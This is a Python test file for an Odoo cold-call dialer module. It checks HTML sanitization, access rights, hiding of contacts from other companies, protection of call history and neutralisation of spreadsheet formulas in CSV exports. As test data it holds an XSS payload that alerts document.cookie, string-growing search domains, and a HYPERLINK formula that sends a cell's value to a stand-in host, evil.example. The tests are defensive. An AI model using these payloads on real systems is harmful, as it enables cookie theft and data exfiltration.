from datetime import timedelta

from odoo import fields
from odoo.exceptions import AccessError, UserError
from odoo.tests import TransactionCase, tagged
from odoo.tests.common import new_test_user

from .common import DialerCase
from .test_export_calls import ExportFixturesMixin

SCRIPT = '<p>Hi</p><img src="x" onerror="alert(document.cookie)"><script>alert(1)</script>'


@tagged("post_install", "-at_install")
class TestWhatUsersWrite(DialerCase):
    """Nothing a user writes runs in another user's browser; which e-mails the Dialer offers is
    for Dialer administrators."""

    def test_a_template_preview_is_sanitized_on_the_server(self):
        template = self.env.ref("cold_call_dialer.mail_template_thanks")
        editor = new_test_user(
            self.env, login="dialer_template_editor", groups="base.group_user,mail.group_mail_template_editor"
        )
        template.with_user(editor).body_html = SCRIPT
        template.invalidate_recordset()
        self.alpha.email = "alpha@example.com"
        body = self.dialer().preview_mail(self.alpha.id, template.id)["body"]
        self.assertIn("Hi", body)
        for dangerous in ("onerror", "<script", "alert("):
            self.assertNotIn(dangerous, body)

    def test_chatter_notes_on_the_card_are_sanitized(self):
        self.env.cr.execute(
            """INSERT INTO mail_message (model, res_id, message_type, body, author_id, date)
               VALUES ('res.partner', %s, 'comment', %s, %s, now() at time zone 'UTC')""",
            [self.alpha.id, SCRIPT, self.rep_two.partner_id.id],
        )
        card = self.dialer().open_contact([self.alpha.id])["current"]
        [note] = [note for note in card["notes"] if "Hi" in note["body"]]
        for dangerous in ("onerror", "<script", "alert("):
            self.assertNotIn(dangerous, note["body"])

    def test_only_dialer_administrators_choose_the_offered_emails(self):
        employee = new_test_user(
            self.env, login="dialer_offer_employee", groups="base.group_user,mail.group_mail_template_editor"
        )
        Template = self.env["mail.template"]
        values = {"name": "Sneaky", "model_id": self.env.ref("base.model_res_partner").id, "cold_call_dialer": True}
        for user in (employee, self.rep):
            with self.assertRaisesRegex(AccessError, "Dialer administrators"):
                Template.with_user(user).create(values)
            with self.assertRaisesRegex(AccessError, "Dialer administrators"):
                self.env.ref("cold_call_dialer.mail_template_information").with_user(user).cold_call_dialer = False
        offered = Template.with_user(self.manager).create(values)
        self.assertIn(offered.id, [t["id"] for t in self.dialer().get_filters()["mail_templates"]])


@tagged("post_install", "-at_install")
class TestSavedSearchCeiling(DialerCase):
    """A saved search anyone shares is evaluated in every rep's Dialer: it cannot grow a value."""

    def test_growing_searches_are_listed_unusable_and_the_others_still_count(self):
        growing = {
            "DT replace": "[('name', '=', 'xxxxxxxxxx'.replace('x', 'xxxxxxxxxx').replace('x', 'xxxxxxxxxx'))]",
            "DT replace keyword": "[('name', '=', 'x'.replace(old='x', new='xxxxxxxxxx'))]",
            "DT strftime": "[('name', '=', context_today().strftime('%%Y' * 1000))]",
        }
        for name, domain in growing.items():
            self.make_filter(name, domain)
        data = self.dialer().get_filters()
        errors = {entry["name"]: entry["error"] for entry in data["filters"]}
        for name in growing:
            self.assertIn("cannot be used in the Dialer", errors[name], name)
        counts = {entry["key"]: entry["count"] for entry in self.dialer().get_counts()}
        self.assertEqual(counts[self.shared_filter.id], 5)
        # The web client's date helpers keep working.
        self.make_filter(
            "DT first of the month",
            f"[('category_id', 'in', [{self.tag.id}]), "
            "('create_date', '>=', context_today().replace(day=1).strftime('%Y-%m-%d'))]",
        )
        entry = next(e for e in self.dialer().get_filters()["filters"] if e["name"] == "DT first of the month")
        self.assertFalse(entry["error"])


@tagged("post_install", "-at_install")
class TestCompaniesAndRecords(DialerCase):
    """The Dialer reads contacts with the rep's rights: no order, count or answer tells anything of
    a contact the rep may not read."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.other_company = cls.env["res.company"].create({"name": "Dialer elsewhere"})
        cls.hidden = cls.env["res.partner"].create(
            {"name": "DT Mmm Hidden", "mobile": "+919845000077", "company_id": cls.other_company.id}
        )
        cls.hidden.category_id = cls.tag

    def test_paging_from_a_hidden_contact_reads_nothing_from_it(self):
        page = self.dialer().get_page(self.shared_filter.id, 1, 25)
        self.assertNotIn(self.hidden.id, self.page_ids(page))
        counts = {"total": 60, "skipped_no_phone": 0, "waiting": 0}
        for anchor in (self.hidden.id, 10**9):
            with self.subTest(anchor=anchor):
                page = self.dialer().get_page(self.shared_filter.id, 2, 25, counts=counts, after_partner_id=anchor)
                self.assertNotIn(self.hidden.id, self.page_ids(page))
                # The same page as from an unknown contact: read by its number, not ordered by the hidden name.
                self.assertEqual(page["page"], 2)
        same = [
            self.page_ids(self.dialer().get_page(self.shared_filter.id, 2, 25, counts=counts, after_partner_id=anchor))
            for anchor in (self.hidden.id, 10**9)
        ]
        self.assertEqual(same[0], same[1])

    def test_a_hidden_contact_is_answered_as_a_missing_one(self):
        answers = []
        for partner_id in (self.hidden.id, 10**9):
            with self.assertRaises(UserError) as caught:
                self.dialer().log_call(partner_id, status="voicemail", list_key="never_called")
            answers.append(str(caught.exception))
        self.assertEqual(answers[0], answers[1])
        self.assertNotIn("Hidden", answers[0])
        self.assertFalse(self.env["cold.call.log"].search([("partner_id", "=", self.hidden.id)]))


@tagged("post_install", "-at_install")
class TestCallHistory(DialerCase):
    """The last call, its outcome and the next call follow from the calls logged."""

    def test_reps_cannot_rewrite_the_history_of_a_contact(self):
        self.dialer().log_call(self.alpha.id, status="no_answer", list_key="never_called")
        history = ["cold_call_last_date", "cold_call_last_outcome_id", "cold_call_next_at"]
        before = self.alpha.read(history)
        for vals in (
            {"cold_call_next_at": "2099-01-01 00:00:00"},
            {"cold_call_last_date": fields.Datetime.now() + timedelta(days=3)},
            {"cold_call_last_outcome_id": self.outcome("meeting").id},
        ):
            with self.subTest(vals=vals), self.assertRaisesRegex(AccessError, "logged calls"):
                self.alpha.with_user(self.rep).write(vals)
        self.alpha.invalidate_recordset()
        self.assertEqual(self.alpha.read(history), before)
        # Their calls still write it, through the server.
        self.assertTrue(before[0]["cold_call_next_at"])

    def test_a_manager_corrects_it_with_a_trace(self):
        self.dialer().log_call(self.alpha.id, status="no_answer", list_key="never_called")
        self.alpha.with_user(self.manager).write({"cold_call_next_at": False})
        self.assertFalse(self.alpha.cold_call_next_at)
        trace = self.env["mail.message"].search(
            [("model", "=", "res.partner"), ("res_id", "=", self.alpha.id), ("body", "ilike", "Call history corrected")]
        )
        self.assertEqual(trace.author_id, self.manager.partner_id)
        self.assertIn("Call Again From", trace.body)


@tagged("post_install", "-at_install")
class TestSpreadsheetExport(ExportFixturesMixin, TransactionCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.setup_export_fixtures()

    def test_csv_cells_that_spreadsheets_read_as_formulas_are_neutralised(self):
        names = ['=HYPERLINK("https://evil.example/?"&B2,"x")', "@SUM(A1)", "-2+3"]
        for partner, name in zip((self.bravo, self.charlie, self.alpha), names, strict=True):
            partner.name = name
        contacts = [row[2] for row in self.csv_rows(self.export())[1:]]
        self.assertEqual(contacts, ["'" + name for name in names])
        for start in ("+", "\t", "\r"):
            self.assertEqual(self.env["cold.call.log.export"]._csv_cell(f"{start}1+1"), f"'{start}1+1")
        self.assertEqual(self.env["cold.call.log.export"]._csv_cell("DT Bravo"), "DT Bravo")
        self.assertEqual(self.env["cold.call.log.export"]._csv_cell(42), 42)
